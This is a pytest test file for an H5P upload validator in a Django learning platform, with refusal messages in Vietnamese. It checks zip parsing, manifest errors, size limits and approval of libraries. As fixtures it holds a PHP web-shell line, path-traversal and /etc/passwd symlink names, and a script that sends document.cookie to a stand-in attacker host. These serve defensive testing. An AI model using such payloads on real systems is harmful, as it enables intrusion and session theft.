"""An uploaded .h5p is read, refused with every reason in Vietnamese, or kept under the H5P storage root."""

import hashlib
import io
import random
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model

from courses.h5p import services
from courses.h5p.models import H5PItem, H5PLibrary
from courses.h5p.package import LibraryRef, Limits, PackageError, read_package
from tests.courses.h5p_archives import (
    EDITOR_FOLDER,
    MAIN,
    MAIN_FOLDER,
    SHARED,
    SHARED_FOLDER,
    TITLE,
    dependency,
    h5p_json,
    library_json,
    valid_files,
    valid_package,
    zip_bytes,
    zip_file,
)

MB = 1024 * 1024
CHECK_JS = f"{MAIN_FOLDER}/check.js"
MAIN_LIBRARY_JSON = f"{MAIN_FOLDER}/library.json"


DEFAULT_LIMITS = Limits()


def refusal(upload, limits: Limits = DEFAULT_LIMITS) -> list[str]:
    with pytest.raises(PackageError) as refused:
        read_package(upload, limits)
    return refused.value.problems


def with_files(**changes) -> io.BytesIO:
    return valid_package(**changes)


# --- a valid package -------------------------------------------------------------------------------


def test_a_valid_package_reads_with_its_title_main_library_and_only_the_libraries_it_needs():
    files = valid_files()
    data = zip_bytes(files)

    package = read_package(io.BytesIO(data))

    assert package.title == TITLE
    assert package.main == LibraryRef(MAIN, 1, 0)
    assert package.h5p_json["mainLibrary"] == MAIN
    assert package.digest == hashlib.sha256(data).hexdigest()
    # Main first, then what it pulls in; the editor library in the export never runs for learners.
    assert [library.ref.folder for library in package.libraries] == [MAIN_FOLDER, SHARED_FOLDER]
    assert set(package.members) == {name for name in files if not name.startswith(EDITOR_FOLDER + "/")}
    main, shared = package.libraries
    assert (main.version, main.title, main.dependencies) == ("1.0.3", MAIN, [LibraryRef(SHARED, 1, 2)])
    assert main.files == {
        name.removeprefix(MAIN_FOLDER + "/"): hashlib.sha256(content).hexdigest()
        for name, content in files.items()
        if name.startswith(MAIN_FOLDER + "/")
    }
    assert set(shared.files) == {"library.json", "shared.js"}


def test_library_hashes_follow_the_files_not_the_archive():
    first = read_package(valid_package())
    again = read_package(valid_package())
    stored = read_package(zip_file(valid_files(), compression=zipfile.ZIP_STORED))
    changed = read_package(valid_package(**{CHECK_JS: b"H5P.HocSoCheck = function () { steal(); };\n"}))

    digests = [library.digest for library in first.libraries]
    assert [library.digest for library in again.libraries] == digests
    assert first.digest == again.digest
    # Re-zipped differently: another package, the very same libraries.
    assert stored.digest != first.digest
    assert [library.digest for library in stored.libraries] == digests
    assert changed.libraries[0].digest != digests[0]
    assert changed.libraries[1].digest == digests[1]
    assert len(set(digests)) == 2 and all(len(digest) == 64 for digest in digests)


def test_an_export_listing_every_dependency_in_h5p_json_still_puts_the_main_library_first():
    manifest = h5p_json(preloadedDependencies=[dependency(SHARED, 1, 2), dependency(MAIN, 1, 0)])
    package = read_package(valid_package(**{"h5p.json": manifest}))
    assert [library.ref.folder for library in package.libraries] == [MAIN_FOLDER, SHARED_FOLDER]


def test_libraries_that_need_each_other_are_read_once():
    shared = library_json(SHARED, 1, 2, preloadedJs=[{"path": "shared.js"}])
    shared["preloadedDependencies"] = [dependency(MAIN, 1, 0)]
    package = read_package(valid_package(**{f"{SHARED_FOLDER}/library.json": shared}))
    assert [library.ref.folder for library in package.libraries] == [MAIN_FOLDER, SHARED_FOLDER]


def test_an_editor_only_library_may_be_left_out():
    package = read_package(
        valid_package(**{f"{EDITOR_FOLDER}/library.json": None, f"{EDITOR_FOLDER}/editor.js": None})
    )
    assert [library.ref.folder for library in package.libraries] == [MAIN_FOLDER, SHARED_FOLDER]


def test_hidden_and_system_files_are_skipped_and_not_kept():
    extra = {
        ".DS_Store": b"\0\0\0\1Bud1",
        "__MACOSX/._h5p.json": b"\0\5\26\7",
        "content/.thumbs.db": b"x",
        "_notes/ghi-chu.php": b"<?php system($_GET['c']);",
    }
    package = read_package(zip_file({**valid_files(), **extra}))
    assert not set(extra) & set(package.members)
    assert all(not path.startswith((".", "_")) for library in package.libraries for path in library.files)


def test_folder_entries_are_accepted_and_not_listed_as_files():
    pairs = [("content/", b""), ("content/images/", b""), (f"{MAIN_FOLDER}/", b""), *valid_files().items()]
    package = read_package(zip_file(pairs))
    assert "content/" not in package.members
    assert "content/content.json" in package.members


# --- not a package at all ----------------------------------------------------------------------------

NOT_A_ZIP = "Tệp không phải gói H5P (.h5p là một tệp zip)."


@pytest.mark.parametrize(
    "data",
    [b"", b"day khong phai zip", b"\x89PNG\r\n\x1a\n" + bytes(200), zip_bytes(valid_files())[:200]],
    ids=["empty-file", "text", "png", "cut-short"],
)
def test_a_file_that_is_not_a_zip_is_refused(data):
    assert refusal(io.BytesIO(data)) == [NOT_A_ZIP]


def test_an_empty_zip_is_refused_for_missing_h5p_json():
    assert refusal(zip_file({})) == ["Gói thiếu tệp h5p.json."]


# --- h5p.json, content.json and libraries ------------------------------------------------------------

MAIN_MISSING = "h5p.json không khai báo thư viện chính (mainLibrary) trong các thư viện cần nạp."


@pytest.mark.parametrize(
    "changes, problems",
    [
        ({"h5p.json": None}, ["Gói thiếu tệp h5p.json."]),
        ({"h5p.json": b"{title: 'khong phai JSON'}"}, ["Tệp h5p.json không phải JSON hợp lệ."]),
        ({"h5p.json": b'{"title": "Tie\xff\xfe"}'}, ["Tệp h5p.json không phải JSON hợp lệ."]),
        ({"h5p.json": b"[" * 100_000}, ["Tệp h5p.json không phải JSON hợp lệ."]),
        ({"h5p.json": [h5p_json()]}, ["Tệp h5p.json không phải JSON hợp lệ."]),
        ({"h5p.json": b'"chu"'}, ["Tệp h5p.json không phải JSON hợp lệ."]),
        ({"h5p.json": h5p_json(title=None)}, ["h5p.json thiếu tiêu đề (title)."]),
        ({"h5p.json": h5p_json(title="   ")}, ["h5p.json thiếu tiêu đề (title)."]),
        ({"h5p.json": h5p_json(title=["Tiêu đề"])}, ["h5p.json thiếu tiêu đề (title)."]),
        ({"h5p.json": h5p_json(mainLibrary=None)}, [MAIN_MISSING]),
        ({"h5p.json": h5p_json(mainLibrary=SHARED)}, [MAIN_MISSING]),
        ({"h5p.json": h5p_json(preloadedDependencies=[dependency(SHARED, 1, 2)])}, [MAIN_MISSING]),
        ({"h5p.json": h5p_json(preloadedDependencies=None)}, [MAIN_MISSING]),
        (
            {"h5p.json": h5p_json(preloadedDependencies=MAIN)},
            ["h5p.json khai báo thư viện phụ thuộc sai dạng.", MAIN_MISSING],
        ),
        (
            {"h5p.json": h5p_json(preloadedDependencies=[{"machineName": MAIN, "majorVersion": 1}])},
            ["h5p.json có một thư viện khai báo thiếu tên hoặc phiên bản.", MAIN_MISSING],
        ),
        (
            {"h5p.json": h5p_json(preloadedDependencies=[dependency(MAIN, 1, "một")])},
            ["h5p.json có một thư viện khai báo thiếu tên hoặc phiên bản.", MAIN_MISSING],
        ),
        (
            {"h5p.json": h5p_json(mainLibrary="../x", preloadedDependencies=[dependency("../x", 1, 0)])},
            ["h5p.json có tên thư viện không hợp lệ.", MAIN_MISSING],
        ),
        (
            {"h5p.json": h5p_json(preloadedDependencies=[dependency(MAIN, -1, 0)])},
            ["h5p.json có tên thư viện không hợp lệ.", MAIN_MISSING],
        ),
        ({"content/content.json": None}, ["Gói thiếu tệp content/content.json."]),
        ({"content/content.json": b"{'a': 1"}, ["Tệp content/content.json không phải JSON hợp lệ."]),
        ({"content/content.json": [1, 2]}, ["Tệp content/content.json không phải JSON hợp lệ."]),
        (
            {"h5p.json": None, "content/content.json": None},
            ["Gói thiếu tệp h5p.json."],
        ),
    ],
    ids=[
        "no-h5p-json",
        "h5p-json-not-json",
        "h5p-json-not-utf8",
        "h5p-json-nested-too-deep",
        "h5p-json-a-list",
        "h5p-json-a-string",
        "no-title",
        "blank-title",
        "title-not-text",
        "no-main-library",
        "main-library-not-a-dependency",
        "main-library-not-listed",
        "no-dependencies",
        "dependencies-not-a-list",
        "dependency-without-minor",
        "dependency-version-not-a-number",
        "dependency-name-unsafe",
        "dependency-version-negative",
        "no-content-json",
        "content-json-not-json",
        "content-json-not-an-object",
        "nothing-but-content",
    ],
)
def test_a_broken_manifest_or_content_is_refused_with_its_reason(changes, problems):
    assert refusal(with_files(**changes)) == problems


def test_every_problem_in_the_manifest_is_listed_at_once():
    problems = refusal(with_files(**{"h5p.json": h5p_json(title=""), "content/content.json": None}))
    assert problems == ["h5p.json thiếu tiêu đề (title).", "Gói thiếu tệp content/content.json."]


@pytest.mark.parametrize(
    "changes, problems",
    [
        (
            {f"{SHARED_FOLDER}/library.json": None, f"{SHARED_FOLDER}/shared.js": None},
            ["Gói thiếu thư viện cần thiết: HocSo.Shared-1.2"],
        ),
        (
            {
                MAIN_LIBRARY_JSON: None,
                CHECK_JS: None,
                f"{MAIN_FOLDER}/styles/check.css": None,
                f"{MAIN_FOLDER}/semantics.json": None,
            },
            ["Gói thiếu thư viện cần thiết: HocSo.Check-1.0"],
        ),
        (
            {
                "h5p.json": h5p_json(
                    preloadedDependencies=[dependency(MAIN, 1, 0), dependency("H5P.Question", 1, 5)]
                )
            },
            ["Gói thiếu thư viện cần thiết: H5P.Question-1.5"],
        ),
        (
            # The content asks for 1.1; carrying 1.0 is not the same library.
            {"h5p.json": h5p_json(preloadedDependencies=[dependency(MAIN, 1, 1)])},
            ["Gói thiếu thư viện cần thiết: HocSo.Check-1.1"],
        ),
        ({MAIN_LIBRARY_JSON: None}, ["Thư viện HocSo.Check-1.0 thiếu tệp library.json."]),
        ({MAIN_LIBRARY_JSON: b"{"}, ["Tệp HocSo.Check-1.0/library.json không phải JSON hợp lệ."]),
        (
            {MAIN_LIBRARY_JSON: library_json(MAIN, 2, 0, preloadedJs=[{"path": "check.js"}])},
            ["Thư mục HocSo.Check-1.0 không khớp với thư viện HocSo.Check-2.0 mà nó khai báo."],
        ),
        (
            {MAIN_LIBRARY_JSON: library_json("HocSo.Other", 1, 0)},
            ["Thư mục HocSo.Check-1.0 không khớp với thư viện HocSo.Other-1.0 mà nó khai báo."],
        ),
        (
            {MAIN_LIBRARY_JSON: library_json(MAIN, 1, 0, patchVersion=-2)},
            ["HocSo.Check-1.0/library.json có phiên bản không hợp lệ."],
        ),
        (
            {MAIN_LIBRARY_JSON: library_json(MAIN, 1, 0, minorVersion=None)},
            ["HocSo.Check-1.0/library.json có một thư viện khai báo thiếu tên hoặc phiên bản."],
        ),
        (
            # A version too large for any integer (JSON's 1e400 is infinity).
            {MAIN_LIBRARY_JSON: b'{"machineName": "HocSo.Check", "majorVersion": 1e400, "minorVersion": 0}'},
            ["HocSo.Check-1.0/library.json có một thư viện khai báo thiếu tên hoặc phiên bản."],
        ),
        ({CHECK_JS: None}, ["Thư viện HocSo.Check-1.0 thiếu tệp check.js mà nó khai báo."]),
        (
            {f"{MAIN_FOLDER}/styles/check.css": None},
            ["Thư viện HocSo.Check-1.0 thiếu tệp styles/check.css mà nó khai báo."],
        ),
        (
            # A library may only load its own files.
            {
                MAIN_LIBRARY_JSON: library_json(
                    MAIN, 1, 0, preloadedJs=[{"path": f"../{SHARED_FOLDER}/shared.js"}]
                )
            },
            ["Thư viện HocSo.Check-1.0 thiếu tệp ../HocSo.Shared-1.2/shared.js mà nó khai báo."],
        ),
        (
            {MAIN_LIBRARY_JSON: library_json(MAIN, 1, 0, preloadedJs=[{"path": "vendor/jquery.js"}])},
            ["Thư viện HocSo.Check-1.0 thiếu tệp vendor/jquery.js mà nó khai báo."],
        ),
        (
            {MAIN_LIBRARY_JSON: library_json(MAIN, 1, 0, preloadedJs=5)},
            ["HocSo.Check-1.0/library.json khai báo preloadedJs sai dạng."],
        ),
        (
            {MAIN_LIBRARY_JSON: library_json(MAIN, 1, 0, preloadedCss={"path": "styles/check.css"})},
            ["HocSo.Check-1.0/library.json khai báo preloadedCss sai dạng."],
        ),
        (
            # Even a library the content does not use must be sound: H5P core checks them all.
            {f"{EDITOR_FOLDER}/editor.js": None},
            ["Thư viện HocSo.CheckEditor-1.0 thiếu tệp editor.js mà nó khai báo."],
        ),
    ],
    ids=[
        "dependency-of-main-missing",
        "main-library-missing",
        "listed-library-missing",
        "other-minor-version",
        "no-library-json",
        "library-json-not-json",
        "library-json-other-version",
        "library-json-other-name",
        "library-json-bad-patch",
        "library-json-no-minor",
        "library-json-infinite-version",
        "declared-js-missing",
        "declared-css-missing",
        "declared-js-outside-folder",
        "declared-js-in-missing-folder",
        "preloaded-js-not-a-list",
        "preloaded-css-not-a-list",
        "unused-library-broken",
    ],
)
def test_missing_or_mismatched_libraries_are_refused_naming_them(changes, problems):
    assert refusal(with_files(**changes)) == problems


# --- names that would escape or confuse the storage folder -------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../evil.js",
        "/etc/passwd",
        "content/../../x.json",
        "content/images/../../../x.png",
        "C:\\x",
        "C:/x.json",
        "c:x.json",
        "content\\x.json",
        "\\content\\x.json",
        f"{MAIN_FOLDER}\\..\\..\\check.js",
        "content//x.json",
        "content/" + "a" * 300 + ".json",
    ],
)
def test_paths_that_could_escape_the_package_folder_are_refused(name):
    problems = refusal(zip_file({**valid_files(), name: b"{}"}))
    assert problems == [f"Đường dẫn không an toàn trong gói: {name}"]


def test_a_path_too_long_for_the_disk_is_refused():
    name = "content/" + "/".join(["thu-muc"] * 140) + "/x.json"
    assert refusal(zip_file({**valid_files(), name: b"{}"})) == [f"Đường dẫn không an toàn trong gói: {name}"]


@pytest.mark.parametrize(
    "name",
    ["content/link.json", CHECK_JS, "__MACOSX/link"],
    ids=["in-content", "declared-library-file", "even-in-a-hidden-folder"],
)
def test_symbolic_links_are_refused(name):
    files = {**valid_files(), name: b"/etc/passwd"}
    problems = refusal(zip_file(files, symlinks=[name]))
    assert problems == [f"Gói chứa liên kết tượng trưng (symlink): {name}"]


@pytest.mark.parametrize(
    "pairs, duplicate",
    [
        ([("content/content.json", b'{"a": 1}')], "content/content.json"),
        ([(CHECK_JS, b"alert(1);")], CHECK_JS),
        ([("content/images/TIN-NHAN.png", b"x")], "content/images/TIN-NHAN.png"),
        # A file and a folder of the same name cannot both be written to disk.
        ([("content/images/tin-nhan.png/x.png", b"x")], "content/images/tin-nhan.png"),
        ([("h5p.json/x.json", b"{}")], "h5p.json"),
    ],
    ids=["same-name", "library-file", "differs-only-in-case", "file-and-folder", "manifest-and-folder"],
)
def test_duplicate_names_are_refused(pairs, duplicate):
    problems = refusal(zip_file([*valid_files().items(), *pairs]))
    assert f"Tệp bị lặp trong gói: {duplicate}" in problems
    assert all(problem.startswith(("Tệp bị lặp", "Tệp không được phép ở đây")) for problem in problems)


# --- file types --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "content/shell.php",
        "content/images/shell.PHP",
        "content/setup.exe",
        "content/run.js",
        "content/style.css",
        "content/page.html",
        "content/images/anh.svgz",
        "content/animation.swf",
        "content/noextension",
        f"{MAIN_FOLDER}/shell.php",
        f"{MAIN_FOLDER}/tools/setup.exe",
        f"{MAIN_FOLDER}/page.html",
        f"{EDITOR_FOLDER}/shell.phtml",
    ],
)
def test_file_types_h5p_does_not_allow_are_refused(name):
    problems = refusal(zip_file({**valid_files(), name: b"<?php system($_GET['c']); ?>"}))
    assert problems == [f"Loại tệp không được phép: {name}"]


@pytest.mark.parametrize(
    "name", ["readme.txt", "scripts/run.js", "HocSo.Check/check.js", "Content/x.json", "h5p.json.bak"]
)
def test_files_outside_content_and_library_folders_are_refused(name):
    problems = refusal(zip_file({**valid_files(), name: b"{}"}))
    assert problems == [f"Tệp không được phép ở đây: {name}"]


def test_libraries_may_carry_code_and_styles_and_content_may_carry_media():
    extra = {
        f"{MAIN_FOLDER}/vendor/helper.js": b"var x = 1;",
        f"{MAIN_FOLDER}/fonts/be-vietnam.woff2": b"wOF2",
        "content/audio/canh-bao.mp3": b"ID3",
        "content/video/huong-dan.MP4": b"\0\0\0\x18ftyp",
        "content/tai-lieu.pdf": b"%PDF-1.7",
    }
    package = read_package(zip_file({**valid_files(), **extra}))
    assert set(extra) <= set(package.members)
    assert "vendor/helper.js" in package.libraries[0].files


def test_every_refused_file_is_listed_at_once():
    files = {**valid_files(), "content/shell.php": b"x", f"{MAIN_FOLDER}/tool.exe": b"x", "../x.js": b"x"}
    assert refusal(zip_file(files)) == [
        "Đường dẫn không an toàn trong gói: ../x.js",
        "Loại tệp không được phép: content/shell.php",
        "Loại tệp không được phép: HocSo.Check-1.0/tool.exe",
    ]


# --- sizes and counts --------------------------------------------------------------------------------


def test_a_file_declaring_more_than_the_per_file_limit_is_refused_without_unpacking():
    files = {**valid_files(), "content/video.mp4": b"\0" * 100}
    upload = zip_file(files, declared_sizes={"content/video.mp4": 2 * MB})
    problems = refusal(upload, Limits(file_bytes=1 * MB))
    assert problems == ["Tệp content/video.mp4 quá lớn (tối đa 1 MB mỗi tệp)."]


def test_a_highly_compressed_file_is_measured_by_its_unpacked_size():
    files = {**valid_files(), "content/video.mp4": b"\0" * (2 * MB)}
    upload = zip_file(files)
    assert len(upload.getvalue()) < 100_000
    assert refusal(upload, Limits(file_bytes=1 * MB)) == [
        "Tệp content/video.mp4 quá lớn (tối đa 1 MB mỗi tệp)."
    ]


def test_files_together_over_the_total_limit_are_refused():
    files = {**valid_files(), "content/a.mp4": b"a", "content/b.mp4": b"b"}
    upload = zip_file(files, declared_sizes={"content/a.mp4": 600 * 1024, "content/b.mp4": 600 * 1024})
    problems = refusal(upload, Limits(total_bytes=1 * MB, file_bytes=1 * MB))
    assert problems == ["Nội dung giải nén quá lớn (tối đa 1 MB)."]


def test_more_files_than_allowed_are_refused_and_exactly_the_limit_is_not():
    count = len(valid_files())
    assert read_package(valid_package(), Limits(files=count)).title == TITLE
    assert refusal(valid_package(), Limits(files=count - 1)) == [
        f"Gói có quá nhiều tệp (tối đa {count - 1})."
    ]


def test_an_upload_over_the_size_limit_is_refused_before_it_is_opened():
    noise = random.Random(7).randbytes(MB + 1)
    upload = zip_file({**valid_files(), "content/images/nhieu.png": noise}, compression=zipfile.ZIP_STORED)
    assert refusal(upload, Limits(upload_bytes=1 * MB)) == ["Tệp tải lên quá lớn (tối đa 1 MB)."]
    assert refusal(io.BytesIO(b"x" * (MB + 1)), Limits(upload_bytes=1 * MB)) == [
        "Tệp tải lên quá lớn (tối đa 1 MB)."
    ]


# --- members whose bytes lie -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["h5p.json", "content/content.json", "content/images/tin-nhan.png", MAIN_LIBRARY_JSON, CHECK_JS],
)
@pytest.mark.parametrize(
    "damage",
    [
        {"bad_crc": True},
        {"declared_size": 5},
        {"corrupt": True},
        {"corrupt": True, "compression": zipfile.ZIP_STORED},
        {"method": 99},
    ],
    ids=["wrong-crc", "size-smaller-than-data", "corrupt-deflate", "corrupt-stored", "unknown-method"],
)
def test_a_damaged_or_lying_member_is_refused_with_a_clear_message(name, damage):
    upload = zip_file(
        valid_files(),
        compression=damage.get("compression", zipfile.ZIP_DEFLATED),
        bad_crc=[name] if damage.get("bad_crc") else [],
        declared_sizes={name: damage["declared_size"]} if "declared_size" in damage else None,
        corrupt=[name] if damage.get("corrupt") else [],
        methods={name: damage["method"]} if "method" in damage else None,
    )
    assert refusal(upload) == [f"Tệp {name} trong gói bị hỏng."]


def test_a_damaged_file_of_an_unused_library_does_not_matter():
    # Never unpacked, never served: its bytes are not read.
    upload = zip_file(valid_files(), bad_crc=[f"{EDITOR_FOLDER}/editor.js"])
    assert read_package(upload).title == TITLE


# --- services: keeping a package ---------------------------------------------------------------------


def snapshot(root: Path) -> tuple:
    files = sorted(
        (path.relative_to(root).as_posix(), path.read_bytes()) for path in root.rglob("*") if path.is_file()
    )
    return files, H5PItem.objects.count(), H5PLibrary.objects.count()


@pytest.fixture
def trainer(db):
    return get_user_model().objects.create_user("0912345678", "mat-khau-thu", full_name="Trần Thị Giảng")


@pytest.fixture
def admin_user(db):
    return get_user_model().objects.create_superuser("0987654321", "mat-khau-thu", full_name="Lê Văn Duyệt")


def stored_item(upload, **kwargs) -> H5PItem:
    package = services.validate(upload)
    return services.store(upload, package=package, **kwargs)


def approve_all(item: H5PItem, user) -> None:
    for library in item.libraries.all():
        services.approve(library, user)


def test_storing_writes_the_needed_files_only_under_the_storage_root(settings, tmp_path, trainer):
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    files = valid_files()
    upload = zip_file({**files, ".DS_Store": b"x"})

    item = stored_item(upload, user=trainer)

    root = services.storage_root()
    assert root == Path(settings.VAR_DIR) / "h5p"
    folder = services.package_dir(item.digest)
    assert folder.parent == root / "packages"
    # Saving the item refreshes the page cache's stamp; nothing else may appear outside the package.
    written = (
        {path for path in tmp_path.rglob("*") if path.is_file()}
        - before
        - {tmp_path / "page-cache-generation"}
    )
    assert written == {path for path in folder.rglob("*") if path.is_file()}
    kept = {path.relative_to(folder).as_posix(): path.read_bytes() for path in written}
    assert kept == {name: data for name, data in files.items() if not name.startswith(EDITOR_FOLDER + "/")}
    # No half-extracted staging folder is left behind.
    assert [path.name for path in (root / "packages").iterdir()] == [item.digest]


def test_the_storage_root_setting_is_honoured(settings, tmp_path, trainer):
    settings.HOCSO_H5P_ROOT = str(tmp_path / "goi-h5p")
    item = stored_item(valid_package(), user=trainer)
    assert (tmp_path / "goi-h5p" / "packages" / item.digest / "h5p.json").is_file()
    assert not (tmp_path / "h5p").exists()


def test_storing_records_the_item_and_its_libraries_pending_approval(trainer, admin_user):
    upload = valid_package()
    item = stored_item(upload, user=trainer)

    assert item.title == TITLE
    assert item.digest == hashlib.sha256(upload.getvalue()).hexdigest()
    assert item.package_size == len(upload.getvalue())
    assert item.main_library == "HocSo.Check 1.0"
    assert item.uploaded_by == trainer
    assert item.h5p_json["mainLibrary"] == MAIN
    libraries = {str(library): library for library in item.libraries.all()}
    assert set(libraries) == {"HocSo.Check 1.0.3", "HocSo.Shared 1.2.3"}
    package = read_package(valid_package())
    assert libraries["HocSo.Check 1.0.3"].digest == package.libraries[0].digest
    assert libraries["HocSo.Check 1.0.3"].files == package.libraries[0].files
    assert not item.playable
    assert {str(library) for library in item.waiting_for} == set(libraries)

    services.approve(libraries["HocSo.Check 1.0.3"], admin_user)
    assert not H5PItem.objects.get(pk=item.pk).playable
    services.approve(libraries["HocSo.Shared 1.2.3"], admin_user)
    assert H5PItem.objects.get(pk=item.pk).playable
    assert H5PLibrary.objects.get(machine_name=SHARED).approved_by == admin_user


def test_a_byte_identical_copy_of_an_approved_library_is_reused_and_plays_at_once(trainer, admin_user):
    approve_all(stored_item(valid_package(), user=trainer), admin_user)
    other_content = valid_files(**{"content/content.json": {"questions": []}})

    item = stored_item(
        zip_file(other_content, compression=zipfile.ZIP_STORED), title="Bài khác", user=trainer
    )

    assert H5PLibrary.objects.count() == 2
    assert item.title == "Bài khác"
    assert item.playable


def test_a_new_patch_version_is_a_new_library_needing_approval(trainer, admin_user):
    approve_all(stored_item(valid_package(), user=trainer), admin_user)
    newer = library_json(
        MAIN,
        1,
        0,
        patchVersion=4,
        preloadedJs=[{"path": "check.js"}],
        preloadedCss=[{"path": "styles/check.css"}],
        preloadedDependencies=[dependency(SHARED, 1, 2)],
    )
    item = stored_item(valid_package(**{MAIN_LIBRARY_JSON: newer, CHECK_JS: b"/* 1.0.4 */"}), user=trainer)
    assert [str(library) for library in item.waiting_for] == ["HocSo.Check 1.0.4"]
    assert H5PLibrary.objects.count() == 3


@pytest.mark.parametrize(
    "approved, message",
    [
        (True, "Thư viện HocSo.Check 1.0.3 trong gói khác với bản đã được duyệt; gói bị từ chối."),
        (False, "Thư viện HocSo.Check 1.0.3 trong gói khác với bản đang chờ duyệt; gói bị từ chối."),
    ],
    ids=["approved", "pending"],
)
@pytest.mark.parametrize(
    "changes",
    [
        {CHECK_JS: b"H5P.HocSoCheck = function () { fetch('//ke-gian.example/?c=' + document.cookie); };"},
        {f"{MAIN_FOLDER}/extra.js": b"alert(1);"},
        {f"{MAIN_FOLDER}/semantics.json": None},
    ],
    ids=["changed-file", "added-file", "removed-file"],
)
def test_a_changed_copy_of_a_known_library_is_refused_and_nothing_is_stored(
    tmp_path, trainer, admin_user, approved, message, changes
):
    item = stored_item(valid_package(), user=trainer)
    if approved:
        approve_all(item, admin_user)
    before = snapshot(tmp_path)

    with pytest.raises(PackageError) as refused:
        services.validate(valid_package(**changes))

    assert refused.value.problems == [message]
    assert snapshot(tmp_path) == before
    assert H5PItem.objects.get(pk=item.pk).playable is approved


def test_an_invalid_upload_stores_nothing(tmp_path, trainer):
    stored_item(valid_package(), user=trainer)
    before = snapshot(tmp_path)
    with pytest.raises(PackageError) as refused:
        services.validate(valid_package(**{"content/shell.php": b"<?php"}))
    assert refused.value.problems == ["Loại tệp không được phép: content/shell.php"]
    assert snapshot(tmp_path) == before


def test_validation_uses_the_limits_from_settings(settings, db):
    settings.HOCSO_H5P_MAX_FILES = 4
    with pytest.raises(PackageError) as refused:
        services.validate(valid_package())
    assert refused.value.problems == ["Gói có quá nhiều tệp (tối đa 4)."]


def test_a_copy_that_lost_the_race_to_another_upload_leaves_nothing_behind(tmp_path, trainer):
    late = valid_package(**{CHECK_JS: b"/* mot ban khac */"})
    late_package = services.validate(late)
    stored_item(valid_package(), user=trainer)
    before = snapshot(tmp_path)

    with pytest.raises(PackageError) as refused:
        services.store(late, package=late_package, user=trainer)

    assert refused.value.problems == [
        "Thư viện HocSo.Check 1.0.3 trong gói khác với bản đang chờ duyệt; gói bị từ chối."
    ]
    assert snapshot(tmp_path) == before
